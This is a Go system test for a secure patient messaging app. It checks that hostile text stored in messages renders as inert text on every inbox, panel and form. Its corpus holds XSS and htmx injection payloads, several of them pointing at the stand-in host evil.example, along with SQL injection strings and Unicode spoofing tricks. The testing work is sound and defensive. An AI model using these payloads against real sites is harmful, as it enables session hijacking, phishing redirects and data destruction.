package systemtest

// Hostile text, stored through the app and shown back everywhere it appears, is inert: it never
// becomes an element, an attribute, a script, a link or an htmx instruction. Each page and
// fragment is parsed with golang.org/x/net/html (the HTML5 parsing algorithm browsers use), and a
// conversation holding hostile text must have exactly the element skeleton of one holding plain
// text. The template-level fuzz target is app.FuzzRenderMessage.

import (
	"fmt"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"sort"
	"strings"
	"testing"
	"unicode/utf8"

	"securemessages/store"
	"securemessages/views/htmltest"
)

// secHostile is the corpus. Each entry carries a marker (~Mnn~, with a character no token or id
// uses) so that wherever its text lands can be found.
var secHostile = []string{
	`<script>alert("~M01~")</script>`,
	`"><script src=//evil.example/~M02~.js></script>`,
	`'><img src=x onerror=alert('~M03~')>`,
	`" autofocus onfocus="alert('~M04~')" x="`,
	`' onmouseover='alert(5)' data-x='~M05~`,
	`<a href="javascript:alert('~M06~')">click me</a>`,
	`javascript:alert('~M07~')`,
	`<div hx-get="/signout" hx-trigger="load" hx-target="body">~M08~</div>`,
	`" hx-get="/signout" hx-trigger="load" x="~M09~`,
	`<button hx-on:click="alert('~M10~')">~M10~</button>`,
	`" hx-on:click="alert('~M11~')" hx-on::load="fetch('//evil.example')`,
	`<svg/onload=alert('~M12~')>`,
	`<iframe srcdoc="&lt;script&gt;alert('~M13~')&lt;/script&gt;"></iframe>`,
	`'); DROP TABLE messages;-- ~M14~`,
	`1' OR '1'='1'; -- ~M15~ \x27 \\`,
	"~M16~ invoice\u202Eexe.pdf\u202C right-to-left override",
	"~M17~ zero\u200Bwidth\u200Cnon\u200Djoiner\uFEFFbom",
	"~M18~ emoji 👩‍⚕️🩺💊 and a flag 🇺🇸",
	"~M19~ combining Z\u0337\u0321\u031Ba\u0338\u0349\u034Al\u0335\u0330\u0307g\u0336\u0331\u0353o\u0334\u033C\u031A",
	`</textarea><script>alert('~M20~')</script>`,
	`</title><script>alert('~M21~')</script>`,
	`{{.CSRFToken}} {{template "partials/head" .}} ~M22~`,
	`<!-- ~M23~ --><base href="//evil.example/">`,
	`<meta http-equiv="refresh" content="0;url=//evil.example/~M24~">`,
	`<style>*{display:none}</style>~M25~`,
	`&lt;script&gt;~M26~&amp;amp; &#60;b&#62;`,
	`<<script>>~M27~<</script>`,
	"~M28~ line\nbreak\r\nand\ttab",
	`<form action="//evil.example/~M29~"><input name="_csrf"></form>`,
	`<x hx-vals='{"~M30~":1}' hx-headers='{"X-CSRF-Token":"x"}'>`,
}

// secMarker finds the corpus's markers.
var secMarker = regexp.MustCompile(`~M\d\d~`)

// secAtLimits are the longest texts the app takes: 150 characters of subject, 4,000 of body, made
// of hostile pieces and of characters that take several bytes.
func secAtLimits() (subject, body string) {
	subject = "~M31~ " + strings.Repeat("👩", store.MaxSubjectLen-6)
	piece := `"'><script>x</script><a href="javascript:y">é́`
	for utf8.RuneCountInString(body+piece) <= store.MaxBodyLen-6 {
		body += piece
	}
	body = "~M32~ " + body
	for utf8.RuneCountInString(body) < store.MaxBodyLen {
		body += "<"
	}
	return subject, body
}

// secThread is one conversation the test writes: Maria's message, the practice's reply under it,
// and Maria's follow-up under that (still cancellable).
type secThread struct {
	subject, body            string
	conv, first, reply, last int64
}

func TestInjectionIsInert(t *testing.T) {
	t.Parallel()
	sys := newSecSystem(t)
	in := sys.start(t, nil)
	maria := in.signIn(t, secMaria)
	staff := in.signIn(t, secPhysician)

	// The staff's dashboard is open, with its live stream, before anything arrives.
	dashboard := secParse(t, staff.get(t, "/inbox").Body)
	liveURL := dashboard.ByID("inbox").Attr["hx-get"]
	if !strings.HasPrefix(liveURL, "/inbox") {
		t.Fatalf("the inbox's refresh URL is %q", liveURL)
	}
	staffStream := staff.stream(t, "the staff dashboard's stream", sys.newestEvent(t))

	write := func(subject, body string) secThread {
		t.Helper()
		th := secThread{subject: strings.TrimSpace(subject), body: strings.TrimSpace(body)}
		form := secComposeForm(subject, body)
		if r := maria.post(t, "/messages", form); r.Status != http.StatusSeeOther {
			t.Fatalf("send %q: %s\n%s", subject, r, excerpt(r.Body))
		}
		if err := sys.db().QueryRow(`SELECT conversation_id, id FROM messages WHERE submit_key = $1`, form.Get("submit_key")).
			Scan(&th.conv, &th.first); err != nil {
			t.Fatal(err)
		}
		reply := secReplyForm(body)
		if r := staff.post(t, fmt.Sprintf("/messages/%s/replies", sys.msg(th.first)), reply); r.Status != http.StatusSeeOther {
			t.Fatalf("reply %q: %s\n%s", body, r, excerpt(r.Body))
		}
		if err := sys.db().Get(&th.reply, `SELECT id FROM messages WHERE submit_key = $1`, reply.Get("submit_key")); err != nil {
			t.Fatal(err)
		}
		follow := secReplyForm(body)
		if r := maria.post(t, fmt.Sprintf("/messages/%s/replies", sys.msg(th.reply)), follow); r.Status != http.StatusSeeOther {
			t.Fatalf("follow-up %q: %s\n%s", body, r, excerpt(r.Body))
		}
		if err := sys.db().Get(&th.last, `SELECT id FROM messages WHERE submit_key = $1`, follow.Get("submit_key")); err != nil {
			t.Fatal(err)
		}
		return th
	}
	benign := write("Plain subject", "Plain body")
	var threads []secThread
	for _, text := range secHostile {
		threads = append(threads, write(text, text))
	}
	limitSubject, limitBody := secAtLimits()
	threads = append(threads, write(limitSubject, limitBody))
	tags := secTemplateTags(t)

	// check looks at one list, all its pages: nothing outside what the templates make, anywhere in
	// them; and each thread's element skeleton the same as the plain thread's.
	check := func(who, path string, htmx bool, pages []*secResp, scope func(*htmltest.Node, secThread) *htmltest.Node, texts func(secThread) []string) {
		t.Helper()
		name := fmt.Sprintf("%s GET %s (htmx %t)", who, path, htmx)
		var docs []*htmltest.Node
		for _, r := range pages {
			if r.Status != http.StatusOK {
				t.Errorf("%s: status %d\n%s", name, r.Status, excerpt(r.Body))
				return
			}
			var doc *htmltest.Node
			if htmx {
				doc = secParseFragment(t, r.Body)
			} else {
				doc = secParse(t, r.Body)
			}
			secInert(t, name, doc, tags)
			docs = append(docs, doc)
		}
		find := func(th secThread) *htmltest.Node {
			for _, doc := range docs {
				if n := scope(doc, th); n != nil {
					return n
				}
			}
			return nil
		}
		// Threads on later pages carry the page in their links and forms; that is the only
		// difference allowed.
		skeleton := func(n *htmltest.Node) []string {
			var sk []string
			dropped := false
			for _, e := range secSkeleton(n) {
				if strings.HasPrefix(e, "<input name=page ") || (dropped && e == "</input>") {
					dropped = !dropped
					continue
				}
				sk = append(sk, strings.NewReplacer("?page=#", "", "&amp;page=#", "", "&page=#", "").Replace(e))
			}
			return sk
		}
		want := skeleton(find(benign))
		if len(want) == 0 {
			t.Fatalf("%s: the plain thread is not there", name)
		}
		for _, th := range threads {
			n := find(th)
			if n == nil {
				t.Errorf("%s: thread %q is not shown", name, secShort(th.subject))
				continue
			}
			if got := skeleton(n); !slices.Equal(got, want) {
				t.Errorf("%s: the thread with %q does not have the plain thread's elements:\n%s", name, secShort(th.subject), htmltest.FirstDifference(want, got))
			}
			// And the text is there, as text, exactly as typed.
			shown := secNormalize(n.TextContentRaw())
			for _, text := range texts(th) {
				if !strings.Contains(shown, secNormalize(text)) {
					t.Errorf("%s: %q is not shown as typed", name, secShort(text))
				}
			}
		}
	}
	// allPages fetches a list and its older pages, as many as it has.
	allPages := func(c *secClient, path string, header ...string) []*secResp {
		t.Helper()
		var pages []*secResp
		for page := 1; page <= 10; page++ {
			p := path
			if page > 1 {
				sep := "?"
				if strings.Contains(p, "?") {
					sep = "&"
				}
				p += fmt.Sprintf("%spage=%d", sep, page)
			}
			r := c.get(t, p, header...)
			pages = append(pages, r)
			if !strings.Contains(r.Body, fmt.Sprintf("page=%d", page+1)) {
				break
			}
		}
		return pages
	}
	conversation := func(doc *htmltest.Node, th secThread) *htmltest.Node {
		return doc.ByID("conversation-" + sys.conv(th.conv))
	}
	subjects := func(th secThread) []string { return []string{th.subject} }

	// The inbox, the staff dashboard, and the refresh the live stream triggers.
	for _, c := range []struct {
		who string
		c   *secClient
	}{{"Maria", maria}, {"the physician", staff}} {
		for _, htmx := range []bool{false, true} {
			var header []string
			if htmx {
				header = []string{"HX-Request", "true"}
			}
			for _, path := range []string{"/inbox", "/inbox?all=1"} {
				check(c.who, path, htmx, allPages(c.c, path, header...), conversation, subjects)
			}
		}
	}
	staffStream.waitFor(t, "news of the new messages", secWait, func(fs []sseFrame, _ bool) bool {
		return len(staffStream.eventIDs()) >= 3*(len(threads)+1)
	})
	check("the physician (live refresh)", liveURL, true, allPages(staff, liveURL, "HX-Request", "true"), conversation, subjects)

	// Every panel that shows a message's text or subject, page and fragment.
	for _, htmx := range []bool{false, true} {
		var header []string
		if htmx {
			header = []string{"HX-Request", "true"}
		}
		panels := []struct {
			who  string
			c    *secClient
			path func(secThread) string
			id   func(secThread) int64
		}{
			{"Maria", maria, func(th secThread) string { return fmt.Sprintf("/messages/%s", sys.msg(th.first)) }, func(th secThread) int64 { return th.first }},
			{"Maria", maria, func(th secThread) string { return fmt.Sprintf("/messages/%s", sys.msg(th.reply)) }, func(th secThread) int64 { return th.reply }},
			{"Maria", maria, func(th secThread) string { return fmt.Sprintf("/messages/%s/reply", sys.msg(th.reply)) }, func(th secThread) int64 { return th.reply }},
			{"Maria", maria, func(th secThread) string { return fmt.Sprintf("/messages/%s/cancel", sys.msg(th.last)) }, func(th secThread) int64 { return th.last }},
			{"the physician", staff, func(th secThread) string { return fmt.Sprintf("/messages/%s", sys.msg(th.first)) }, func(th secThread) int64 { return th.first }},
			{"the physician", staff, func(th secThread) string { return fmt.Sprintf("/messages/%s/reply", sys.msg(th.last)) }, func(th secThread) int64 { return th.last }},
		}
		for _, p := range panels {
			// One request per thread; the skeleton of its panel against the plain thread's.
			slot := func(doc *htmltest.Node, th secThread) *htmltest.Node { return doc.ByID("slot-" + sys.msg(p.id(th))) }
			plain := p.c.get(t, p.path(benign), header...)
			// A fragment for every thread; the whole page (the inbox with the panel open, which
			// the inbox checks above have already seen for every thread) for a few.
			sample := threads
			if !htmx {
				sample = []secThread{threads[0], threads[7], threads[10], threads[len(threads)-1]}
			}
			for _, th := range sample {
				r := p.c.get(t, p.path(th), header...)
				name := fmt.Sprintf("%s GET %s (htmx %t)", p.who, p.path(th), htmx)
				if r.Status != http.StatusOK || plain.Status != http.StatusOK {
					t.Errorf("%s: status %d (plain %d)", name, r.Status, plain.Status)
					continue
				}
				doc, plainDoc := secParse(t, r.Body), secParse(t, plain.Body)
				if htmx {
					doc, plainDoc = secParseFragment(t, r.Body), secParseFragment(t, plain.Body)
				}
				secInert(t, name, doc, tags)
				got, want := secSkeleton(slot(doc, th)), secSkeleton(slot(plainDoc, benign))
				if len(want) == 0 || !slices.Equal(got, want) {
					t.Errorf("%s: the panel does not have the plain one's elements:\n%s", name, htmltest.FirstDifference(want, got))
				}
				shown := secNormalize(slot(doc, th).TextContentRaw())
				if strings.HasSuffix(p.path(th), fmt.Sprint(p.id(th))) && !strings.Contains(shown, secNormalize(th.body)) {
					t.Errorf("%s: the text is not shown as typed", name)
				}
			}
		}
	}

	// Text over the limits comes back in the form, inert and whole, and is not stored.
	over := url.Values{"subject": {limitSubject + "x"}, "body": {limitBody + "x"}, "consent": {"yes"}}
	plainOver := url.Values{"subject": {strings.Repeat("a", store.MaxSubjectLen+1)}, "body": {strings.Repeat("b", store.MaxBodyLen+1)}, "consent": {"yes"}}
	for _, htmx := range []bool{false, true} {
		var header []string
		if htmx {
			header = []string{"HX-Request", "true", "X-CSRF-Token", maria.token(t)}
		}
		messages := sys.count(t, `SELECT count(*) FROM messages`)
		for _, f := range []url.Values{over, plainOver} {
			f.Set("submit_key", secKey())
		}
		r := maria.post(t, "/messages", over, header...)
		plain := maria.post(t, "/messages", plainOver, header...)
		if r.Status != http.StatusUnprocessableEntity || plain.Status != http.StatusUnprocessableEntity {
			t.Fatalf("over the limits: status %d (plain %d), want 422", r.Status, plain.Status)
		}
		if n := sys.count(t, `SELECT count(*) FROM messages`); n != messages {
			t.Errorf("text over the limits was stored")
		}
		doc, plainDoc := secParse(t, r.Body), secParse(t, plain.Body)
		if htmx {
			doc, plainDoc = secParseFragment(t, r.Body), secParseFragment(t, plain.Body)
		}
		name := fmt.Sprintf("POST /messages over the limits (htmx %t)", htmx)
		secInert(t, name, doc, tags)
		compose := doc.ByID("compose")
		if got, want := secSkeleton(compose), secSkeleton(plainDoc.ByID("compose")); len(want) == 0 || !slices.Equal(got, want) {
			t.Errorf("%s: the form does not have the plain one's elements:\n%s", name, htmltest.FirstDifference(want, got))
		}
		_, kept := secFormOf(compose.First(htmltest.Tag("form")))
		if kept.Get("subject") != over.Get("subject") || secNormalize(kept.Get("body")) != secNormalize(over.Get("body")) {
			t.Errorf("%s: the text typed does not come back whole", name)
		}
	}
}

// secInert fails if anything in doc could only have come from user text: an element the
// templates never make, an inline script or a script from elsewhere, an event handler or hx-on
// attribute, a javascript: URL, or a marker of the corpus anywhere but in text and in the two
// attributes that carry text (aria-label, and a form field's value and placeholder).
func secInert(t *testing.T, name string, doc *htmltest.Node, tags map[string]bool) {
	t.Helper()
	for _, n := range doc.All(func(n *htmltest.Node) bool { return n.Tag != "#root" }) {
		if n.Tag == htmltest.Comment {
			t.Errorf("%s: a comment <!--%s--> appeared", name, secShort(n.Text))
			continue
		}
		if !tags[n.Tag] {
			t.Errorf("%s: a <%s> element appeared, which no template makes", name, n.Tag)
		}
		if n.Tag == "script" {
			if src := n.Attr["src"]; !strings.HasPrefix(src, "/static/") || len(n.Kids) > 0 {
				t.Errorf("%s: a script that is not one of ours: src %q", name, src)
			}
		}
		for _, a := range n.Attrs {
			key := strings.ToLower(a.Key)
			if strings.HasPrefix(key, "on") || strings.HasPrefix(key, "hx-on") || key == "style" || key == "srcdoc" {
				t.Errorf("%s: <%s %s=%q>", name, n.Tag, a.Key, secShort(a.Val))
			}
			if secMarker.MatchString(a.Key) {
				t.Errorf("%s: an attribute named %q", name, a.Key)
			}
			if secMarker.MatchString(a.Val) && !secTextAttrs[key] {
				t.Errorf("%s: user text in <%s %s=%q>", name, n.Tag, a.Key, secShort(a.Val))
			}
			if strings.Contains(strings.ToLower(a.Val), "javascript:") && !secTextAttrs[key] {
				t.Errorf("%s: <%s %s=%q>", name, n.Tag, a.Key, secShort(a.Val))
			}
		}
	}
}

// secTextAttrs are the attributes that carry text, which html/template escapes as such: a reply
// form's subject shows the "Re: …" it would carry as its placeholder.
var secTextAttrs = map[string]bool{"aria-label": true, "value": true, "placeholder": true}

// secTemplateTags is every element name the templates write.
func secTemplateTags(t *testing.T) map[string]bool {
	t.Helper()
	files, err := filepath.Glob("../views/*/*.html")
	if err != nil || len(files) == 0 {
		t.Fatalf("templates not found: %v", err)
	}
	tags := map[string]bool{"html": true, "head": true, "body": true} // the parser adds these to fragments
	re := regexp.MustCompile(`<([a-z][a-z0-9]*)[\s>/]`)
	for _, f := range files {
		b, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		for _, m := range re.FindAllStringSubmatch(string(b), -1) {
			tags[m[1]] = true
		}
	}
	return tags
}

var secDigits = regexp.MustCompile(`[0-9]+`)

// secPublicIDs are the public ids where a page writes them (DOM ids, links, the live stream's
// after=), which differ from thread to thread as numbers did.
var secPublicIDs = regexp.MustCompile(`((?:message|slot|conversation|state|subject|body|consent)-|/(?:messages|conversations)/|after=)[-_A-Za-z0-9]{22}`)

// secSkeleton is the element structure under n, in order: each element's name and attributes,
// with ids and times made neutral and the values of the attributes that carry text left out.
func secSkeleton(n *htmltest.Node) []string {
	if n == nil {
		return nil
	}
	var out []string
	var walk func(*htmltest.Node)
	walk = func(n *htmltest.Node) {
		element := n.Tag != "" && n.Tag != htmltest.Comment && n.Tag != "#root"
		switch {
		case element:
			var attrs []string
			for _, a := range n.Attrs {
				v := secDigits.ReplaceAllString(secPublicIDs.ReplaceAllString(a.Val, "$1#"), "#")
				if secTextAttrs[a.Key] {
					v = "*"
				}
				attrs = append(attrs, a.Key+"="+v)
			}
			sort.Strings(attrs)
			out = append(out, "<"+n.Tag+" "+strings.Join(attrs, " ")+">")
		case n.Tag == htmltest.Comment:
			out = append(out, "<!---->")
		}
		for _, c := range n.Kids {
			walk(c)
		}
		if element {
			out = append(out, "</"+n.Tag+">")
		}
	}
	walk(n)
	return out
}

// secNormalize is text as the HTML parser gives it back: line ends as \n.
func secNormalize(s string) string {
	return strings.ReplaceAll(strings.ReplaceAll(s, "\r\n", "\n"), "\r", "\n")
}

func secShort(s string) string {
	if utf8.RuneCountInString(s) > 60 {
		return string([]rune(s)[:60]) + "…"
	}
	return s
}
